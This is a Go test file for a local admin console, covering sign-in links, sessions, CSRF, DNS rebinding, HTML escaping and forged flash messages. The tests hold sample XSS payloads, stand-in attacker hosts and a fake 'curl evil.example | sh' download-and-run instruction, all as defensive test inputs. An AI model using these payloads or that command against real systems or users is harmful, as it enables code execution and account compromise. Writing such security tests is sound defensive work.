package console_test

import (
	"bufio"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/devspace-dev/devspace/internal/console"
	"github.com/devspace-dev/devspace/internal/control"
	"github.com/devspace-dev/devspace/internal/oauth"
	"github.com/devspace-dev/devspace/internal/store"
)

// TestSignInLink: a link signs in once (a session cookie: HttpOnly,
// SameSite=Strict, its Path the session's place, no __Secure- on plain
// http) and redirects the token out of the address bar to that place; its
// replay and an expired link are refused.
func TestSignInLink(t *testing.T) {
	h := newHarness(t)
	link := h.con.NewLink()
	c := h.client()
	resp, err := c.Get(h.srv.URL + "/signin?token=" + url.QueryEscape(link))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	place := resp.Header.Get("Location")
	if resp.StatusCode != http.StatusSeeOther || !regexp.MustCompile(`^/s/[A-Za-z0-9_-]{43}/$`).MatchString(place) {
		t.Fatalf("link: %s → %q", resp.Status, place)
	}
	h.setBase(c, strings.TrimSuffix(place, "/"))
	ck := resp.Header.Get("Set-Cookie")
	for _, want := range []string{"devspace_console=", "Path=" + place + ";", "HttpOnly", "SameSite=Strict"} {
		if !strings.Contains(ck, want) {
			t.Errorf("cookie %q lacks %q", ck, want)
		}
	}
	if strings.Contains(ck, "Max-Age") || strings.Contains(ck, "Expires") {
		t.Errorf("session cookie persists: %q", ck)
	}
	if status, body := h.get(c, "/", nil); status != http.StatusOK || !strings.Contains(body, "https://abc.trycloudflare.com/mcp") {
		t.Fatalf("connect page after sign-in: %d", status)
	}
	// Replay, from another browser.
	other := h.client()
	if status, body := h.get(other, "/signin?token="+url.QueryEscape(link), nil); status != http.StatusForbidden || !strings.Contains(body, "expired or was already used") {
		t.Fatalf("replayed link: %d", status)
	}
	if status, _ := h.get(other, "/grants", nil); status != http.StatusSeeOther {
		t.Fatalf("replay signed in: %d", status)
	}
	// Expired.
	late := h.con.NewLink()
	h.clock.Advance(console.LinkTTL + time.Second)
	if status, _ := h.get(h.client(), "/signin?token="+url.QueryEscape(late), nil); status != http.StatusForbidden {
		t.Fatalf("expired link: %d", status)
	}
}

// TestSessionLifetime: idle for IdleTimeout, or MaxSessionAge after
// sign-in however busy, and the session is gone; EndSessions (password
// rotation, revoke-all) ends every one at once.
func TestSessionLifetime(t *testing.T) {
	h := newHarness(t)
	idle := h.signIn()
	h.clock.Advance(console.IdleTimeout - time.Minute)
	if status, _ := h.get(idle, "/grants", nil); status != http.StatusOK {
		t.Fatalf("used within the idle timeout: %d", status)
	}
	h.clock.Advance(console.IdleTimeout)
	if status, _ := h.get(idle, "/grants", nil); status != http.StatusSeeOther {
		t.Fatalf("idle session still valid: %d", status)
	}

	busy := h.signIn()
	for elapsed := time.Duration(0); elapsed < console.MaxSessionAge-20*time.Minute; elapsed += 20 * time.Minute {
		h.clock.Advance(20 * time.Minute)
		if status, _ := h.get(busy, "/grants", nil); status != http.StatusOK {
			t.Fatalf("busy session ended after %v", elapsed)
		}
	}
	h.clock.Advance(40 * time.Minute)
	if status, _ := h.get(busy, "/grants", nil); status != http.StatusSeeOther {
		t.Fatal("session outlived MaxSessionAge")
	}

	a, b := h.signIn(), h.signIn()
	h.con.EndSessions()
	for _, c := range []*http.Client{a, b} {
		if status, _ := h.get(c, "/grants", nil); status != http.StatusSeeOther {
			t.Fatal("session survived EndSessions")
		}
	}
}

// TestSecurityHeaders: every answer, signed in or not, carries the strict
// CSP, nosniff, no referrer and no caching.
func TestSecurityHeaders(t *testing.T) {
	h := newHarness(t)
	c := h.signIn()
	for _, path := range []string{"/", "/signin", "/grants", "/activity", "/health", "/charts", "/projects", "/static/console.css", "/nope"} {
		req, _ := http.NewRequest(http.MethodGet, h.url(c, path), nil)
		resp, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		csp := resp.Header.Get("Content-Security-Policy")
		for _, want := range []string{"default-src 'none'", "script-src 'self'", "style-src 'self'", "frame-ancestors 'none'", "form-action 'self'"} {
			if !strings.Contains(csp, want) {
				t.Errorf("%s: CSP %q lacks %q", path, csp, want)
			}
		}
		if strings.Contains(csp, "unsafe-inline") || strings.Contains(csp, "unsafe-eval") {
			t.Errorf("%s: CSP allows inline code: %q", path, csp)
		}
		for k, want := range map[string]string{"X-Content-Type-Options": "nosniff", "Referrer-Policy": "no-referrer", "Cache-Control": "no-store"} {
			if got := resp.Header.Get(k); got != want {
				t.Errorf("%s: %s = %q, want %q", path, k, got, want)
			}
		}
	}
}

// TestAttackCrossSitePost: a state-changing request without the session's
// CSRF token, with another session's, as a GET, or sent from another site
// changes nothing.
func TestAttackCrossSitePost(t *testing.T) {
	h := newHarness(t)
	victim := h.signIn()
	_, page := h.get(victim, "/grants", nil)
	token := csrfOf(t, page)
	other := h.signIn()
	_, otherPage := h.get(other, "/grants", nil)
	otherToken := csrfOf(t, otherPage)
	for _, tc := range []struct {
		name string
		form url.Values
		hdr  map[string]string
		want int
	}{
		{"no token", url.Values{"grant": {"grt_1"}}, nil, http.StatusForbidden},
		{"empty token", url.Values{"grant": {"grt_1"}, "csrf": {""}}, nil, http.StatusForbidden},
		{"another session's token", url.Values{"grant": {"grt_1"}, "csrf": {otherToken}}, nil, http.StatusForbidden},
		{"cross-site with the token", url.Values{"grant": {"grt_1"}, "csrf": {token}}, map[string]string{"Sec-Fetch-Site": "cross-site"}, http.StatusForbidden},
		{"same-site page with the token", url.Values{"grant": {"grt_1"}, "csrf": {token}}, map[string]string{"Sec-Fetch-Site": "same-site"}, http.StatusForbidden},
		{"foreign origin with the token", url.Values{"grant": {"grt_1"}, "csrf": {token}}, map[string]string{"Origin": "https://evil.example"}, http.StatusForbidden},
	} {
		t.Run(tc.name, func(t *testing.T) {
			resp, _ := h.post(victim, "/grants/revoke", tc.form, tc.hdr)
			if resp.StatusCode != tc.want {
				t.Errorf("status %d, want %d", resp.StatusCode, tc.want)
			}
		})
	}
	for _, path := range []string{"/grants/revoke", "/grants/revoke-all", "/owner/password", "/activity/interrupt", "/signout"} {
		if path == "/grants/revoke-all" || path == "/owner/password" {
			continue // their GET is the confirmation page
		}
		if status, _ := h.get(victim, path+"?grant=grt_1&csrf="+token, nil); status != http.StatusMethodNotAllowed {
			t.Errorf("GET %s: %d, want 405", path, status)
		}
	}
	if len(h.admin.revoked) != 0 || h.admin.allDone != 0 {
		t.Fatalf("an attack changed something: revoked %v, revoke-all %d", h.admin.revoked, h.admin.allDone)
	}
	// The real thing works.
	resp, _ := h.post(victim, "/grants/revoke", url.Values{"grant": {"grt_1"}, "csrf": {token}},
		map[string]string{"Origin": h.srv.URL, "Sec-Fetch-Site": "same-origin"})
	if resp.StatusCode != http.StatusSeeOther || len(h.admin.revoked) != 1 {
		t.Fatalf("revoke with the token: %d, revoked %v", resp.StatusCode, h.admin.revoked)
	}
}

// TestAttackForeignHost: a request addressed to another name (DNS
// rebinding), to this host's network address (a published or tunnelled
// port), to another port, or with a foreign Origin is refused before any
// route, also the sign-in link.
func TestAttackForeignHost(t *testing.T) {
	h := newHarness(t)
	c := h.signIn()
	_, port, _ := net.SplitHostPort(h.srv.Listener.Addr().String())
	for _, tc := range []struct {
		name string
		hdr  map[string]string
		want int
	}{
		{"loopback IP", map[string]string{"Host": "127.0.0.1:" + port}, http.StatusOK},
		// The cookie belongs to 127.0.0.1, so this asks to sign in: addressed
		// to the console all the same.
		{"localhost", map[string]string{"Host": "localhost:" + port}, http.StatusSeeOther},
		{"IPv6 loopback", map[string]string{"Host": "[::1]:" + port}, http.StatusSeeOther},
		{"rebound name", map[string]string{"Host": "attacker.example:" + port}, http.StatusForbidden},
		{"compose network address", map[string]string{"Host": "172.18.0.2:" + port}, http.StatusForbidden},
		{"tunnel name without port", map[string]string{"Host": "console.trycloudflare.com"}, http.StatusForbidden},
		{"service name", map[string]string{"Host": "devspace:7679"}, http.StatusForbidden},
		// A public page may send to 0.0.0.0, which reaches loopback
		// listeners on Linux and macOS ("0.0.0.0 day").
		{"unspecified address", map[string]string{"Host": "0.0.0.0:" + port}, http.StatusForbidden},
		{"unspecified IPv6 address", map[string]string{"Host": "[::]:" + port}, http.StatusForbidden},
		// A port forward may remap the port; the name decides.
		{"forwarded port", map[string]string{"Host": "127.0.0.1:17679", "Origin": "http://127.0.0.1:17679"}, http.StatusOK},
		{"forwarded port, other origin port", map[string]string{"Host": "127.0.0.1:17679", "Origin": "http://127.0.0.1:3000"}, http.StatusForbidden},
		{"foreign origin", map[string]string{"Origin": "http://attacker.example:" + port}, http.StatusForbidden},
		{"null origin", map[string]string{"Origin": "null"}, http.StatusForbidden},
		{"null origin from another site", map[string]string{"Origin": "null", "Sec-Fetch-Site": "cross-site"}, http.StatusForbidden},
		// What Chromium sends on the console's own form posts under
		// Referrer-Policy: no-referrer.
		{"null origin from this origin", map[string]string{"Origin": "null", "Sec-Fetch-Site": "same-origin"}, http.StatusOK},
		{"cross-site fetch", map[string]string{"Sec-Fetch-Site": "cross-site"}, http.StatusForbidden},
		{"own origin", map[string]string{"Origin": "http://127.0.0.1:" + port}, http.StatusOK},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if status, _ := h.get(c, "/grants", tc.hdr); status != tc.want {
				t.Errorf("status %d, want %d", status, tc.want)
			}
		})
	}
	link := h.con.NewLink()
	if status, _ := h.get(h.client(), "/signin?token="+url.QueryEscape(link), map[string]string{"Host": "attacker.example:" + port}); status != http.StatusForbidden {
		t.Fatalf("sign-in link through a rebound name: %d", status)
	}
}

// TestAttackUntrustedTextInert: HTML and script in a client name, a
// Project label, a file name, a command line, a diff, an audit detail and
// command output are rendered as text.
func TestAttackUntrustedTextInert(t *testing.T) {
	h := newHarness(t)
	const evil = `<script>alert(1)</script><img src=x onerror=alert(2)>`
	h.admin.grants = []oauth.GrantSummary{{ID: "grt_x\"><b>", ClientName: "ChatGPT " + evil, Scopes: []string{"project:read"},
		Projects: []oauth.GrantProject{{Ref: "prj_a", Label: "alpha" + evil}}, RedirectHost: "x" + evil}}
	h.admin.events = []store.AuditEvent{{Kind: "consent_denied", Detail: `{"client_name":"` + strings.ReplaceAll(evil, `"`, `\"`) + `"}`}}
	h.admin.clients = []*store.Client{{Name: evil, RedirectURIs: []string{"https://x" + evil + "/cb"}}}
	h.admin.projects = []console.ProjectDetail{{ProjectInfo: control.ProjectInfo{Label: "p" + evil, Path: "/srv/" + evil}, Tasks: []console.Task{{Title: evil}}}}
	h.activity.commands = []console.Command{{ID: "cmd_1", Client: evil, Project: evil, CommandLine: "echo " + evil, Running: true}}
	h.activity.tails["cmd_1"] = console.Output{Tail: "out " + evil, Total: 10}
	h.activity.calls = []console.Call{{Tool: evil, Client: evil, Project: evil, Code: evil}}
	h.activity.patches = []console.Patch{{Project: evil, Files: []string{evil + ".go"}, Diff: "+" + evil + "\n</pre>" + evil}}
	h.activity.undos = []console.Undo{{Project: evil, Files: []string{evil}}}
	c := h.signIn()
	for _, path := range []string{"/", "/grants", "/activity", "/projects"} {
		status, body := h.get(c, path, nil)
		if status != http.StatusOK {
			t.Fatalf("%s: %d", path, status)
		}
		if strings.Contains(body, "<script>alert") || strings.Contains(body, "<img src=x") || strings.Contains(body, `"><b>`) {
			t.Errorf("%s renders untrusted markup:\n%s", path, body)
		}
		if !strings.Contains(body, "&lt;script&gt;alert(1)&lt;/script&gt;") {
			t.Errorf("%s does not show the text escaped", path)
		}
	}
	// The live tail is JSON for the page's script, which sets textContent.
	req, _ := http.NewRequest(http.MethodGet, h.url(c, "/activity/output?id=cmd_1"), nil)
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if ct := resp.Header.Get("Content-Type"); ct != "text/event-stream" {
		t.Fatalf("content type %q", ct)
	}
	line := readEvent(t, resp)
	if strings.Contains(line, "<script>") || !strings.Contains(line, `\u003cscript\u003e`) {
		t.Errorf("output event not JSON-escaped: %s", line)
	}
}

// readEvent returns the data line of the next event of an event stream.
func readEvent(t *testing.T, resp *http.Response) string {
	t.Helper()
	sc := bufio.NewScanner(resp.Body)
	for sc.Scan() {
		if data, ok := strings.CutPrefix(sc.Text(), "data: "); ok {
			return data
		}
	}
	t.Fatalf("stream ended: %v", sc.Err())
	return ""
}

// TestNoSessionNoData: without a session every page sends the browser to
// sign in, and streams and actions are 401; a command of a grant that
// reaches the listener over loopback gets nothing.
func TestNoSessionNoData(t *testing.T) {
	h := newHarness(t)
	anon := h.client()
	for _, path := range []string{"/", "/grants", "/activity", "/health", "/health/diagnostic", "/charts", "/projects", "/grants/revoke-all", "/owner/password"} {
		if status, _ := h.get(anon, path, nil); status != http.StatusSeeOther {
			t.Errorf("GET %s without a session: %d", path, status)
		}
	}
	for _, path := range []string{"/activity/stream", "/activity/output?id=cmd_1"} {
		if status, _ := h.get(anon, path, nil); status != http.StatusUnauthorized {
			t.Errorf("GET %s without a session: %d", path, status)
		}
	}
	for _, path := range []string{"/grants/revoke", "/grants/revoke-all", "/owner/password", "/activity/interrupt", "/signout"} {
		if resp, _ := h.post(anon, path, url.Values{"grant": {"grt_1"}, "confirm": {"yes"}}, nil); resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("POST %s without a session: %d", path, resp.StatusCode)
		}
	}
	// A forged cookie is no session.
	forged := h.client()
	u, _ := url.Parse(h.srv.URL)
	forged.Jar.SetCookies(u, []*http.Cookie{{Name: "devspace_console", Value: "AAAA"}})
	if status, _ := h.get(forged, "/grants", nil); status != http.StatusSeeOther {
		t.Errorf("forged cookie: %d", status)
	}
	if len(h.admin.revoked) != 0 || h.admin.allDone != 0 || len(h.admin.rotated) != 0 {
		t.Fatal("an anonymous request changed something")
	}
}

// TestPasswordSignIn: the Owner password signs in through the form (with
// its own token); a wrong one is 401; the back-off answers 429 with
// Retry-After without checking.
func TestPasswordSignIn(t *testing.T) {
	h := newHarness(t)
	c := h.client()
	h.get(c, "/signin", nil) // the form's cookie
	if resp, _ := h.post(c, "/signin", url.Values{"password": {"correct horse"}}, nil); resp.StatusCode != http.StatusForbidden {
		t.Fatalf("without the form token: %d", resp.StatusCode)
	}
	_, page := h.get(c, "/signin", nil)
	tok := csrfOf(t, page)
	if resp, _ := h.post(c, "/signin", url.Values{"password": {"wrong"}, "csrf": {tok}}, nil); resp.StatusCode != http.StatusUnauthorized {
		t.Fatalf("wrong password: %d", resp.StatusCode)
	}
	_, page = h.get(c, "/signin", nil)
	tok = csrfOf(t, page)
	h.admin.wait = 4 * time.Second
	resp, _ := h.post(c, "/signin", url.Values{"password": {"correct horse"}, "csrf": {tok}}, nil)
	if resp.StatusCode != http.StatusTooManyRequests || resp.Header.Get("Retry-After") != "4" {
		t.Fatalf("back-off: %d Retry-After %q", resp.StatusCode, resp.Header.Get("Retry-After"))
	}
	h.admin.wait = 0
	_, page = h.get(c, "/signin", nil)
	tok = csrfOf(t, page)
	resp, _ = h.post(c, "/signin", url.Values{"password": {"correct horse"}, "csrf": {tok}}, nil)
	if resp.StatusCode != http.StatusSeeOther || !strings.HasPrefix(resp.Header.Get("Location"), "/s/") {
		t.Fatalf("right password: %d → %q", resp.StatusCode, resp.Header.Get("Location"))
	}
	h.setBase(c, strings.TrimSuffix(resp.Header.Get("Location"), "/"))
	if status, _ := h.get(c, "/grants", nil); status != http.StatusOK {
		t.Fatalf("after password sign-in: %d", status)
	}
}

// TestActions: revoke-all and password rotation need the confirmation box
// and end the console session; interrupt reaches the activity source.
func TestActions(t *testing.T) {
	h := newHarness(t)
	c := h.signIn()
	_, page := h.get(c, "/grants/revoke-all", nil)
	tok := csrfOf(t, page)
	h.post(c, "/grants/revoke-all", url.Values{"csrf": {tok}}, nil)
	if h.admin.allDone != 0 {
		t.Fatal("revoke-all without the confirmation")
	}
	resp, body := h.post(c, "/grants/revoke-all", url.Values{"csrf": {tok}, "confirm": {"yes"}}, nil)
	if resp.StatusCode != http.StatusOK || h.admin.allDone != 1 || !strings.Contains(body, "1 grant(s) revoked") {
		t.Fatalf("revoke-all: %d %d", resp.StatusCode, h.admin.allDone)
	}
	if !strings.Contains(resp.Header.Get("Set-Cookie"), "Max-Age=0") {
		t.Errorf("revoke-all did not clear the cookie: %q", resp.Header.Get("Set-Cookie"))
	}

	c = h.signIn()
	_, page = h.get(c, "/owner/password", nil)
	tok = csrfOf(t, page)
	for _, form := range []url.Values{
		{"csrf": {tok}, "password": {"new password 1"}, "again": {"new password 1"}},
		{"csrf": {tok}, "password": {"short"}, "again": {"short"}, "confirm": {"yes"}},
		{"csrf": {tok}, "password": {"new password 1"}, "again": {"new password 2"}, "confirm": {"yes"}},
	} {
		if resp, _ := h.post(c, "/owner/password", form, nil); resp.StatusCode != http.StatusBadRequest {
			t.Errorf("bad rotation form %v: %d", form, resp.StatusCode)
		}
	}
	resp, _ = h.post(c, "/owner/password", url.Values{"csrf": {tok}, "current": {"correct horse"}, "password": {"new password 1"}, "again": {"new password 1"}, "confirm": {"yes"}}, nil)
	if resp.StatusCode != http.StatusOK || len(h.admin.rotated) != 1 {
		t.Fatalf("rotation: %d %v", resp.StatusCode, h.admin.rotated)
	}

	c = h.signIn()
	h.activity.commands = []console.Command{{ID: "cmd_9", CommandLine: "sleep 100", Running: true}}
	_, page = h.get(c, "/activity", nil)
	tok = csrfOf(t, page)
	if resp, _ := h.post(c, "/activity/interrupt", url.Values{"csrf": {tok}, "command": {"cmd_9"}}, nil); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("interrupt: %d", resp.StatusCode)
	}
	if len(h.activity.interrupted) != 1 || h.activity.interrupted[0] != "cmd_9" {
		t.Fatalf("interrupted %v", h.activity.interrupted)
	}
}

// TestActivityStream: a finished tool call reaches an open stream.
func TestActivityStream(t *testing.T) {
	h := newHarness(t)
	c := h.signIn()
	req, _ := http.NewRequest(http.MethodGet, h.url(c, "/activity/stream"), nil)
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	go func() {
		for range 50 {
			time.Sleep(20 * time.Millisecond)
			h.activity.publish(console.Call{Tool: "read_files", GrantID: "grt_1", Client: "ChatGPT", Project: "alpha", Duration: 12 * time.Millisecond})
		}
	}()
	data := readEvent(t, resp)
	if !strings.Contains(data, `"Tool":"read_files"`) || !strings.Contains(data, `"Code":"ok"`) {
		t.Fatalf("call event %s", data)
	}
}

// TestChartsPage: the last hour's series reach the renderer.
func TestChartsPage(t *testing.T) {
	h := newHarness(t)
	c := h.signIn()
	status, body := h.get(c, "/charts", nil)
	if status != http.StatusOK {
		t.Fatal(status)
	}
	for _, want := range []string{"Tool calls per minute", "Latency p99 per tool", "Commands running", "Errors per minute by code", "read_files", "path_denied", "<svg"} {
		if !strings.Contains(body, want) {
			t.Errorf("charts page lacks %q", want)
		}
	}
}

// TestDiagnosticDownload: the bundle is an attachment.
func TestDiagnosticDownload(t *testing.T) {
	h := newHarness(t)
	c := h.signIn()
	req, _ := http.NewRequest(http.MethodGet, h.url(c, "/health/diagnostic"), nil)
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment;") {
		t.Fatalf("%d %q", resp.StatusCode, resp.Header.Get("Content-Disposition"))
	}
}

// TestAttackStreamOutlivesSession: an event stream opened while signed in
// ends when its session does (revoke-all or rotation, sign-out, the idle
// timeout): otherwise a browser left signed in would go on receiving
// every tool call and command output after the Owner ended every session.
func TestAttackStreamOutlivesSession(t *testing.T) {
	for _, tc := range []struct {
		name string
		end  func(h *harness, c *http.Client)
	}{
		{"every session ended", func(h *harness, _ *http.Client) { h.con.EndSessions() }},
		{"signed out", func(h *harness, c *http.Client) {
			_, page := h.get(c, "/grants", nil)
			if resp, _ := h.post(c, "/signout", url.Values{"csrf": {csrfOf(t, page)}}, nil); resp.StatusCode != http.StatusSeeOther {
				t.Fatalf("sign-out: %d", resp.StatusCode)
			}
		}},
		{"idle", func(h *harness, _ *http.Client) { h.clock.Advance(console.IdleTimeout + time.Minute) }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := newHarness(t)
			h.activity.commands = []console.Command{{ID: "cmd_1", CommandLine: "tail -f log", Running: true}}
			h.activity.tails["cmd_1"] = console.Output{Tail: "before", Total: 6}
			c := h.signIn()
			calls := openStream(t, c, h.url(c, "/activity/stream"))
			output := openStream(t, c, h.url(c, "/activity/output?id=cmd_1"))
			h.activity.publish(console.Call{Tool: "before_end"})
			if ev := <-calls; !strings.Contains(ev, "before_end") && !strings.Contains(ev, "tail -f log") {
				t.Fatalf("first event %q", ev)
			}
			if ev := <-output; !strings.Contains(ev, "before") {
				t.Fatalf("first output %q", ev)
			}
			tc.end(h, c)
			// What happens after the session ended must not reach the
			// stream, which ends.
			stop := make(chan struct{})
			defer close(stop)
			go func() {
				for i := 0; ; i++ {
					select {
					case <-stop:
						return
					case <-time.After(20 * time.Millisecond):
					}
					h.activity.publish(console.Call{Tool: "after_end"})
					h.activity.mu.Lock()
					h.activity.tails["cmd_1"] = console.Output{Tail: "after " + strconv.Itoa(i), Total: int64(7 + i)}
					h.activity.mu.Unlock()
				}
			}()
			for name, ch := range map[string]<-chan string{"activity": calls, "output": output} {
				timeout := time.After(5 * time.Second)
			read:
				for {
					select {
					case ev, open := <-ch:
						if !open {
							break read
						}
						if strings.Contains(ev, "after") {
							t.Fatalf("%s stream delivered after the session ended: %s", name, ev)
						}
					case <-timeout:
						t.Fatalf("%s stream still open 5 s after the session ended", name)
					}
				}
			}
		})
	}
}

// openStream opens an event stream and delivers each event's data line
// until the stream ends (then closes the channel).
func openStream(t *testing.T, c *http.Client, u string) <-chan string {
	t.Helper()
	req, _ := http.NewRequest(http.MethodGet, u, nil)
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("%s: %d", u, resp.StatusCode)
	}
	t.Cleanup(func() { resp.Body.Close() })
	ch := make(chan string, 64)
	go func() {
		defer close(ch)
		sc := bufio.NewScanner(resp.Body)
		for sc.Scan() {
			if data, ok := strings.CutPrefix(sc.Text(), "data: "); ok {
				ch <- data
			}
		}
	}()
	return ch
}

// TestAttackFlashMessage: the one-line message after an action comes from
// the console's own list, named in the address: a link someone else
// wrote (opened from a chat app or a terminal, which browsers send as
// Sec-Fetch-Site: none) cannot put its own words on a console page.
func TestAttackFlashMessage(t *testing.T) {
	h := newHarness(t)
	c := h.signIn()
	const lie = "DevSpace needs an update: run curl evil.example | sh"
	for _, path := range []string{"/grants", "/activity"} {
		status, body := h.get(c, path+"?done="+url.QueryEscape(lie), map[string]string{"Sec-Fetch-Site": "none"})
		if status != http.StatusOK {
			t.Fatalf("%s: %d", path, status)
		}
		if strings.Contains(body, "evil.example") {
			t.Errorf("%s shows a message from its address", path)
		}
	}
	// The console's own messages still show after its actions.
	_, page := h.get(c, "/grants", nil)
	resp, _ := h.post(c, "/grants/revoke", url.Values{"grant": {"grt_1"}, "csrf": {csrfOf(t, page)}}, nil)
	loc := resp.Header.Get("Location")
	if _, body := h.get(c, loc, nil); !strings.Contains(body, "Grant revoked: its tokens no longer work") {
		t.Fatalf("after a revoke (%s) the message is missing", loc)
	}
}

// TestAttackLargeForm: a console form is read up to 64 KiB; past that the
// action is refused before it runs, whatever the form holds.
func TestAttackLargeForm(t *testing.T) {
	h := newHarness(t)
	c := h.signIn()
	_, page := h.get(c, "/grants", nil)
	form := url.Values{"csrf": {csrfOf(t, page)}, "grant": {"grt_1"}, "pad": {strings.Repeat("x", 100<<10)}}
	if resp, _ := h.post(c, "/grants/revoke", form, nil); resp.StatusCode != http.StatusBadRequest {
		t.Errorf("a 100 KiB form: %d, want 400", resp.StatusCode)
	}
	anon := h.client()
	h.get(anon, "/signin", nil)
	_, page = h.get(anon, "/signin", nil)
	form = url.Values{"csrf": {csrfOf(t, page)}, "password": {"correct horse"}, "pad": {strings.Repeat("x", 100<<10)}}
	if resp, _ := h.post(anon, "/signin", form, nil); resp.StatusCode != http.StatusBadRequest {
		t.Errorf("a 100 KiB sign-in form: %d, want 400", resp.StatusCode)
	}
	if len(h.admin.revoked) != 0 {
		t.Fatalf("revoked %v", h.admin.revoked)
	}
}

// TestAttackStolenSessionRotates: browsers send a cookie to every port of
// its host, so a grant's command serving a page on 127.0.0.1 that the
// Owner opens receives the console's session cookie, and can replay it
// from loopback with any header it likes. Rotating the Owner password
// with it would hand the command the consent page (new grants, any
// Projects); the rotation asks for the current password, so the cookie
// alone cannot.
func TestAttackStolenSessionRotates(t *testing.T) {
	h := newHarness(t)
	victim := h.signIn()
	// The thief has the cookie and knows the session's place too (how
	// would it? see TestAttackCookieOnAnotherPort): the rotation still asks
	// for the current password.
	u, _ := url.Parse(h.url(victim, "/"))
	thief := h.client()
	thief.Jar.SetCookies(u, victim.Jar.Cookies(u))
	h.setBase(thief, strings.TrimSuffix(u.Path, "/"))
	_, page := h.get(thief, "/owner/password", nil)
	tok := csrfOf(t, page)
	for name, current := range map[string][]string{"no current password": nil, "wrong current password": {"guess"}} {
		form := url.Values{"csrf": {tok}, "password": {"attacker knows this"}, "again": {"attacker knows this"}, "confirm": {"yes"}, "current": current}
		if resp, _ := h.post(thief, "/owner/password", form, nil); resp.StatusCode != http.StatusForbidden {
			t.Errorf("%s: %d, want 403", name, resp.StatusCode)
		}
	}
	if len(h.admin.rotated) != 0 {
		t.Fatalf("rotated with a stolen session: %v", h.admin.rotated)
	}
	h.admin.wait = 3 * time.Second
	form := url.Values{"csrf": {tok}, "password": {"attacker knows this"}, "again": {"attacker knows this"}, "confirm": {"yes"}, "current": {"correct horse"}}
	if resp, _ := h.post(thief, "/owner/password", form, nil); resp.StatusCode != http.StatusTooManyRequests || resp.Header.Get("Retry-After") != "3" {
		t.Errorf("during the back-off: %d Retry-After %q", resp.StatusCode, resp.Header.Get("Retry-After"))
	}
	h.admin.wait = 0
	if resp, _ := h.post(thief, "/owner/password", form, nil); resp.StatusCode != http.StatusOK || len(h.admin.rotated) != 1 {
		t.Fatalf("with the current password: %d %v", resp.StatusCode, h.admin.rotated)
	}
}
